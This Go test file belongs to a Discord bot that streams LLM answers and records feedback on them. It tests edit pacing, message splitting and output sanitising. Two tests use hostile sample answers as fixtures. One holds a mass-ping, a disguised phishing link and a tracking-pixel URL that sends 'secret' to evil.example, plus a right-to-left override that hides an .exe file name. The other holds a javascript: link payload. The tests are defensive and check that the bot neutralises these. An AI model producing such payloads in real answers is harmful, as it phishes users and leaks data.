package bot_test

import (
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"feedbackbot/bot"
	"feedbackbot/bot/discordtest"
	"feedbackbot/feedback"
	"feedbackbot/llm/llmtest"
)

// An answer appears as soon as it is worth a notification, grows about once a
// second, and its last edit alone carries the buttons.
func TestAnswerGrows(t *testing.T) {
	t.Parallel()
	w := newWorld(t, discordtest.Options{})
	w.start()
	events := w.watch(discordtest.KindMessage, discordtest.KindEdit)
	w.model.Queue(llmtest.Script{Text: strings.Repeat("word ", 180), TokenDelay: 20 * time.Millisecond}) // 3.6 s
	w.ask(w.discord.AddUser("ada").ID, "tell me a story")
	var states []discordtest.Event
	for {
		e := w.next(events, "the final edit", func(e discordtest.Event) bool {
			return e.Data.(discordtest.Message).Author.ID == w.discord.Bot().ID
		})
		states = append(states, e)
		if rateable(e.Data.(discordtest.Message)) {
			break
		}
	}
	first := utf8.RuneCountInString(states[0].Data.(discordtest.Message).Content)
	if first == 0 || first > 200 {
		t.Errorf("the first message has %d code points, want about 30", first)
	}
	if n := len(states); !bot.UnderRace && (n < 4 || n > 6) {
		t.Errorf("%d states in 3.6 s, want one about every second", n)
	}
	if gaps := len(states) - 2; gaps > 0 { // the last edit does not wait
		if each := states[gaps].At.Sub(states[0].At) / time.Duration(gaps); each < 700*time.Millisecond {
			t.Errorf("an edit every %v, want about a second between them", each)
		}
	}
}

// A few characters are shown after a moment even though they are few.
func TestShortBeginningIsShown(t *testing.T) {
	t.Parallel()
	w := newWorld(t, discordtest.Options{})
	w.start()
	w.model.Queue(llmtest.Script{Tokens: []string{"Hm.", " Let me think."}, TokenDelay: 3 * time.Second})
	asked := w.ask(w.discord.AddUser("ada").ID, "are you there?")
	if shown := w.replied(asked.ID, "Hm."); strings.Contains(shown.Content, "think") {
		t.Errorf("shown at first: %q, want the three characters", shown.Content)
	}
	w.answered(asked.ID)
}

// The bot types while the model thinks, and does not hold the answer up for it.
func TestTyping(t *testing.T) {
	t.Parallel()
	w := newWorld(t, discordtest.Options{})
	w.start()
	typing := w.watch(discordtest.KindTyping)
	w.discord.Inject(discordtest.Fault{Method: "POST", Path: "/channels/*/typing", Status: 500, Times: 1})
	w.model.Queue(llmtest.Script{Text: "Now.", FirstDelay: 200 * time.Millisecond})
	ada := w.discord.AddUser("ada")
	w.answered(w.ask(ada.ID, "think").ID)
	w.model.Queue(llmtest.Script{Text: "Now.", FirstDelay: 200 * time.Millisecond})
	w.answered(w.ask(ada.ID, "think again").ID)
	w.next(typing, "typing", nil)
}

// Reading the model never waits for an edit: with edits that take far longer
// than the model may be silent, the answer is still complete.
func TestSlowEdits(t *testing.T) {
	t.Parallel()
	w := newWorld(t, discordtest.Options{})
	w.llm.Idle = 3 * time.Second // what a held up reader would run into
	w.start()
	w.discord.Inject(discordtest.Fault{Method: "PATCH", Path: "/channels/**", Delay: 6 * time.Second, Times: 1})
	text := strings.Repeat("some words here. ", 10)
	w.model.Queue(llmtest.Script{Text: text, TokenDelay: 100 * time.Millisecond}) // 3 s
	m := w.answered(w.ask(w.discord.AddUser("ada").ID, "tell me").ID)
	if got := w.response(m.ID); got.Finish != feedback.Complete || got.Answer != text {
		t.Errorf("stored %q with finish %s, want all of it and stop", got.Answer, got.Finish)
	}
	if m.Content != strings.TrimSpace(text) && m.Content != text {
		t.Errorf("shown %q, want %q", m.Content, text)
	}
}

// A long answer is split; the buttons stand under its last message alone, and
// only the first is a reply.
func TestLongAnswer(t *testing.T) {
	t.Parallel()
	w := newWorld(t, discordtest.Options{})
	w.start()
	text := strings.TrimSpace(strings.Repeat("A sentence with several words in it. ", 130)) // 4,800 code points
	w.model.Queue(llmtest.Script{Text: text, TokenDelay: time.Millisecond})
	asked := w.ask(w.discord.AddUser("ada").ID, "tell me a lot")
	w.message("the last part", func(m discordtest.Message) bool { return rateable(m) })
	list := w.replies(asked.ChannelID)
	if len(list) != 3 {
		t.Fatalf("%d messages, want 3", len(list))
	}
	joined := ""
	for k, m := range list {
		if (rateable(m)) != (k == len(list)-1) {
			t.Errorf("message %d has %d rows, want buttons under the last alone", k, len(m.Components))
		}
		if refersTo(m, asked.ID) != (k == 0) {
			t.Errorf("message %d is a reply: %t", k, refersTo(m, asked.ID))
		}
		if r := w.response(m.ID); r.Answer != text {
			t.Errorf("message %d belongs to an answer of %d bytes, want %d", k, len(r.Answer), len(text))
		}
		joined += m.Content
	}
	if joined != text {
		t.Errorf("the messages together are %d bytes, want the text's %d", len(joined), len(text))
	}
}

// An answer takes at most ten messages, then says that it was cut.
func TestTooLongAnswer(t *testing.T) {
	t.Parallel()
	w := newWorld(t, discordtest.Options{ChannelLimit: -1})
	w.start()
	w.model.Queue(llmtest.Script{Text: strings.Repeat("Very much of the same. ", 1200)}) // 27,600 code points
	asked := w.ask(w.discord.AddUser("ada").ID, "tell me everything")
	last := w.message("the last part", func(m discordtest.Message) bool { return rateable(m) })
	if n := len(w.replies(asked.ChannelID)); n != 10 {
		t.Errorf("%d messages, want 10", n)
	}
	if !strings.HasSuffix(last.Content, "too long for Discord and ends here.") {
		t.Errorf("the last message ends with %q, want a mark", last.Content[max(0, len(last.Content)-80):])
	}
	if r := w.response(last.ID); r.Finish != feedback.Length {
		t.Errorf("finish = %s, want %s", r.Finish, feedback.Length)
	}
}

// What a model writes pings nobody, hides no link and loads no preview.
func TestHostileAnswer(t *testing.T) {
	t.Parallel()
	w := newWorld(t, discordtest.Options{})
	w.start()
	ada := w.discord.AddUser("ada")
	w.model.Queue(llmtest.Script{Text: "@everyone <@" + ada.ID + "> [your bank](https://evil.example/x) \u202egnp.exe\x07 ![pixel](https://evil.example/p?q=secret)"})
	m := w.answered(w.ask(ada.ID, "be evil").ID)
	if m.MentionEveryone || len(m.Mentions) > 0 {
		t.Errorf("the answer pings %v, everyone: %t", m.Mentions, m.MentionEveryone)
	}
	if !strings.Contains(m.Content, "your bank (<https://evil.example/x>)") || strings.Contains(m.Content, "](") {
		t.Errorf("content = %q, want the links shown", m.Content)
	}
	if strings.ContainsAny(m.Content, "\u202e\x07") {
		t.Errorf("content = %q, want no control characters", m.Content)
	}
	if m.Flags&4 == 0 {
		t.Errorf("flags = %d, want link previews suppressed", m.Flags)
	}
}

// An answer of which nothing is left to show gets a sentence, not silence.
func TestAnswerThatShowsNothing(t *testing.T) {
	t.Parallel()
	w := newWorld(t, discordtest.Options{})
	w.start()
	ada := w.discord.AddUser("ada")
	for _, text := range []string{"[ ](javascript:alert(1))", "\u200b\u202e"} {
		w.model.Queue(llmtest.Script{Text: text})
		if m := w.replied(w.ask(ada.ID, "say nothing").ID, ""); len(m.Content) < 20 || rateable(m) {
			t.Errorf("to %q the person is shown %q, want a sentence without buttons", text, m.Content)
		}
	}
}
